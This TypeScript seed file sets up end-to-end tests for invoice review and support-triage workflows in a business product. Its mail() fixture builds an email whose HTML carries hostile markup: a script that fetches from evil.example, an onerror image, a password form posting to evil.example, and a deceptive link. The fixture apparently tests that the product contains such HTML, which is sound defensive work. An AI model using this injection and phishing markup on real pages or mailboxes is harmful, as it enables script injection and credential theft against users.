/**
 * A workflow for each kind of proposal and each mode of work, with what has to be decided before the test begins
 * decided through the product's own commands.
 */
import type { Person } from '#seed/demo-organisation.ts'
import { type Flow, openStage } from '#seed/stage.ts'
import type { Role } from '#server/identity/identity.ts'
import type { Definition } from '#server/workflow/workflow.ts'
import { arrive, decideNext, type Incoming, makeWorkflow, type Place, pdfs } from './e2e-place.ts'
import { mailFile } from './mails.ts'

const hour = 3_600_000

/** Colleagues of other items than the reviewer's, without whom nothing could be seeded. */
const leastSources = 10

type Setting = {
  place: Place
  people: Record<Role, Person>
  memberIds: string[]
  flow: Flow
}

export async function makeModes({ place, people, memberIds, flow }: Setting): Promise<void> {
  const now = Date.now()
  const ago = (hours: number) => new Date(now - hours * hour)
  const invoices = (key: string, change: (definition: Definition) => object = () => ({})) =>
    makeWorkflow(place, key, (d) => ({ name: names[key], ...change(d) }), memberIds)
  const support = (key: string) => makeWorkflow(place, key, { name: names[key] }, memberIds, 'support-triage')

  await arrive(place, await support('mails'), [mail(1)], now)
  await arrive(place, await support('replies'), [mail(2)], now)
  await arrive(place, await support('rows'), [rows], now)
  // A bench claims ahead, so each journey has a queue of its own.
  for (const [i, key] of ['grid', 'pointing', 'finding', 'returning', 'escalating', 'held', 'keys'].entries())
    await arrive(place, await invoices(key), await pdfs(301 + 3 * i, 2), now)
  await arrive(place, await invoices('manual', (d) => ({ ...short(d), manualShare: 1 })), await pdfs(331, 2), now)

  const decided = async (key: string, from: number, count: number, change: (definition: Definition) => object) => {
    const workflow = await invoices(key, change)
    await arrive(place, workflow, await pdfs(from, count), ago(6).getTime())
    for (let i = 0; i < count; i++)
      await decideNext(place, workflow, people.reviewer, new Date(ago(5).getTime() + i * 60_000), {})
  }
  const shares = { qaAbove: 0, qaBelow: 0, blindShare: 0, seededShare: 0 }
  await decided('blind', 341, 2, (d) => ({ ...short(d), quality: { ...shares, blindShare: 1 } }))
  await decided('checked', 351, 2, () => ({ quality: { ...shares, qaAbove: 1, qaBelow: 1 } }))
  await decided('signing', 361, 3, () => ({ approvals: [everyPayment] }))

  // Every draw comes up while this one is made: the reviewer's next item is a copy with one wrong value.
  const lucky = { ...place.base, random: { ...place.base.random, float: () => 0 } }
  const drawn: Place = { ...place, base: lucky, stage: openStage(lucky, flow) }
  const seeded = await invoices('seeded', () => ({ holdSeconds: 0, quality: { ...shares, seededShare: 0.2 } }))
  await arrive(drawn, seeded, await pdfs(371, leastSources + 3), ago(30).getTime())
  for (let i = 0; i < leastSources; i++)
    await decideNext(drawn, seeded, people.lead, new Date(ago(29).getTime() + i * 60_000), {})
  await decideNext(drawn, seeded, people.reviewer, ago(2), {})
}

const names: Record<string, string> = {
  mails: 'Mailbox',
  replies: 'Answers',
  rows: 'Contact form',
  grid: 'Lines',
  pointing: 'Pointing',
  finding: 'Finding',
  escalating: 'Going up',
  manual: 'By hand',
  returning: 'Coming back',
  held: 'Held',
  keys: 'Other keys',
  blind: 'Entered twice',
  checked: 'Looked at again',
  signing: 'Signing',
  seeded: 'Watchful',
}

const everyPayment = { key: 'all', when: [], role: 'approver', because: 'Every payment here needs a second person.' }

/** An invoice without its lines, so that it is soon typed. */
function short(definition: Definition): object {
  const keys = ['seller', 'number', 'issue_date', 'net', 'tax', 'total', 'currency']
  return {
    fields: definition.fields.filter((field) => keys.includes(field.key)),
    checks: definition.checks.filter((check) => check.kind === 'sum'),
  }
}

/** A ticket whose HTML would like to run, to phone home and to lead away. */
function mail(n: number): Incoming {
  const order = `PO-8812${n}`
  const text = `Hello,\n\nmy parcel of order number ${order} has not arrived. Where is it? This is dangerous for our business, please answer immediately.\n\nKind regards\nAda Byron`
  const hostile =
    '<script>parent.document.title="taken";fetch("https://evil.example/x")</script><img src="https://evil.example/p.gif" onerror="parent.document.title=\'taken\'"><form action="https://evil.example"><input name="password"></form><a href="https://evil.example">our site</a>'
  const html = `<p>Hello,</p><p>my parcel of order number <b>${order}</b> has not arrived.</p>${hostile}<p>Kind regards<br>Ada Byron</p>`
  const note = new TextEncoder().encode(`Delivery note ${order}\nTwo boxes of hinges, never delivered.\n`)
  const headers = [
    'From: Ada Byron <ada@example.com>',
    'To: Service <service@example.org>',
    'Date: Mon, 16 Nov 2026 09:00:00 +0100',
    `Subject: Parcel of order ${order} has not arrived`,
  ]
  const attachments = [{ name: 'note.txt', type: 'text/plain', bytes: note }]
  return { fileName: `mail-${n}.eml`, bytes: mailFile({ text, html, headers, attachments }) }
}

const rows: Incoming = {
  fileName: 'contact-form.csv',
  bytes: new TextEncoder().encode(
    [
      'Name,Subject,Order number,Message',
      'Bo Lind,Invoice was charged twice,PO-70011,"The invoice was charged twice to my credit card. Please check the payment."',
      'Cleo Marsh,Password,PO-70012,"I cannot sign in to my account, the reset link for the password does not arrive."',
      '',
    ].join('\r\n'),
  ),
}
